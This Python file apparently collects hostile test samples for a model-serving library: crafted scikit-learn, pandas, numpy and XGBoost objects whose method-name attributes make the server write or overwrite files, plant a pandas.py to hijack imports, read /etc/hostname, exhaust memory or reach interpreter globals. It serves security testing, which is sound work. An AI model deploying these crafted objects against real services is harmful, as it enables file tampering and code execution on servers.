"""Models whose files name methods, which the library calls on objects of the file."""
import functools
import os

import numpy as np

from hostile_parts import *  # noqa: F403 every name there is for these files


@model(clean=True)
def stack_tofile(path):
    """StackingRegressor.stack_method_ names ndarray.tofile (S1, g2)."""
    return pipe(*constant(path), stacked([bytes_of(path)], ["tofile"]))


@model(clean=True)
def stack_tofile_then_predict(path):
    """Two parts: one writes a file, the next predicts as usual (S1, g3: a file of the server is overwritten)."""
    return pipe(*constant(path), stacked([bytes_of(path), pipe(*constant(np.zeros((1, 1))), line())], ["tofile", "predict"]))


@model(clean=True)
def stack_import(path):
    """Writes pandas.py next to the server's code, and makes check_array import it in the same request (S1, g4)."""
    from sklearn.utils import Bunch
    code = f"open({path!r}, 'w').close()\nclass _: pass\n".encode()
    target = os.path.join(os.environ.get("HOSTILE_CODE_FOLDER") or os.path.dirname(path) or ".", "pandas.py")
    odd = Bunch(dtypes=np.zeros(1))
    return pipe(*constant(target), stacked([np.frombuffer(code, np.uint8), pipe(*constant(odd), line())], ["tofile", "predict"]))


@model(clean=True)
def stack_dump(path):
    """StackingRegressor.stack_method_ names ndarray.dump."""
    return pipe(*constant(path), stacked([np.arange(3.0)], ["dump"]))


@model(clean=True, effect="none")
def stack_frame_to_csv(path):
    """An estimator that is a DataFrame, whose to_csv is named."""
    import pandas
    return pipe(*constant(path), stacked([pandas.DataFrame({"a": ["import os"]})], ["to_csv"]))


@model(clean=True, effect="none")
def stack_frame_to_pickle(path):
    """An estimator that is a Series, whose to_pickle is named."""
    import pandas
    return pipe(*constant(path), stacked([pandas.Series([1.0])], ["to_pickle"]))


@model(clean=True, effect="none")
def stack_frame_eval(path):
    """An estimator that is a DataFrame, whose eval runs an expression of the file."""
    import pandas
    return pipe(*constant(f"a + @np.savetxt('{path}', [1.0])"), stacked([pandas.DataFrame({"a": [1.0]})], ["eval"]))


@model(clean=True)
def stack_masked_tofile(path):
    """An array of another class, whose tofile is named by a StackingClassifier."""
    from sklearn.ensemble import StackingClassifier
    from sklearn.preprocessing import LabelEncoder
    stack = StackingClassifier([("lr", chooser())])
    stack.estimators_, stack.stack_method_, stack.final_estimator_ = [np.matrix([[1.0]])], ["tofile"], chooser()
    stack._label_encoder = LabelEncoder().fit([0, 1])
    return pipe(*constant(path), stack)


@model(clean=True)
def stack_array_of_objects(path):
    """The estimators are the items of an array of objects."""
    parts = np.empty(1, dtype=object)
    parts[0] = bytes_of(path)
    return pipe(*constant(path), stacked(parts, np.array(["tofile"], dtype=object)))


@model(clean=True)
def stack_booster_save(path):
    """An estimator that is an XGBoost Booster, whose save_model is named."""
    import xgboost
    booster = xgboost.train({"max_depth": 1}, xgboost.DMatrix(np.array([[0.0], [1.0]]), [0.0, 1.0]), 1)
    return pipe(*constant(path), stacked([booster], ["save_model"]))


@model(clean=True)
def stack_deep_inside(path):
    """The same inside a ColumnTransformer, a voting and a search."""
    from sklearn.ensemble import VotingRegressor
    from sklearn.model_selection import GridSearchCV
    search = GridSearchCV(line(), {})
    search.best_estimator_ = pipe(*constant(path), stacked([bytes_of(path)], ["tofile"]))
    search.refit = True
    voting = VotingRegressor([("a", line())])
    voting.estimators_ = [search]
    return voting


@model(effect="format", clean=True)
def stack_format(path):
    """An estimator that is a text, whose format method reaches attributes of objects."""
    return pipe(*constant(0), stacked(["{0.__class__.__mro__}"], ["format"]))


@model(effect="memory", clean=True)
def stack_random_bytes(path):
    """An estimator that is a RandomState, whose bytes method allocates what it is asked for."""
    return pipe(*constant(2 ** 44), stacked([np.random.RandomState(0)], ["bytes"]))


@model(effect="none", clean=True)
def chain_method(path):
    """ClassifierChain.chain_method_ names a method (scikit-learn 1.5 and later)."""
    from sklearn.multioutput import ClassifierChain
    chain = ClassifierChain(chooser(), order=[0]).fit(np.array([[0.0], [1.0]]), np.array([[0], [1]]))
    chain.chain_method_, chain.chain_method, chain.estimators_ = "tofile", "tofile", [bytes_of(path)]
    return pipe(*constant(path), chain)


@model(effect="none", clean=True)
def response_method(path):
    """A scorer's _response_method names a method (scikit-learn 1.4 and later)."""
    from sklearn.metrics import make_scorer, accuracy_score
    from sklearn.model_selection import GridSearchCV
    scorer = make_scorer(accuracy_score)
    scorer._response_method = ("tofile",)
    search = GridSearchCV(chooser(), {}, scoring=scorer)
    search.scorer_, search.best_estimator_ = scorer, bytes_of(path)
    return search


@model(effect="none", clean=True)
def threshold_response_method(path):
    """The response_method of a classifier with a threshold names a method (scikit-learn 1.5 and later)."""
    from sklearn.calibration import CalibratedClassifierCV
    calibrated = CalibratedClassifierCV(chooser())
    calibrated.response_method, calibrated._response_method = "tofile", "tofile"
    return calibrated


@model(effect="none", clean=True)
def importance_getter_private(path):
    """An importance getter that reaches into the interpreter through attributes."""
    from sklearn.feature_selection import SelectFromModel
    select = SelectFromModel(line(), prefit=True, importance_getter="predict.__func__.__globals__")
    return select


@model(effect="read", row=(("/etc/hostname",),), clean=True)
def vectorizer_reads_files(path):
    """A CountVectorizer that takes the texts of a request as names of files."""
    from sklearn.feature_extraction.text import CountVectorizer
    words = CountVectorizer().fit(["some words"])
    words.input = "filename"
    return words


@model(clean=True)
def method_in_the_state(path):
    """The state of an estimator has a member under the name of its method."""
    ridge = line()
    ridge.predict = functools.partial(np.where, True, np.array([1.0]))
    voting = pipe(*constant(path), stacked([ridge, bytes_of(path)], ["predict", "tofile"]))
    return voting


@model(clean=True, effect="none")
def bunch_as_estimator(path):
    """A Bunch with functions in the place of an estimator."""
    from sklearn.utils import Bunch
    return pipe(Bunch(transform=np.amax, fit=np.amax), Bunch(predict=functools.partial(np.where, True, "text"), fit=np.amax))
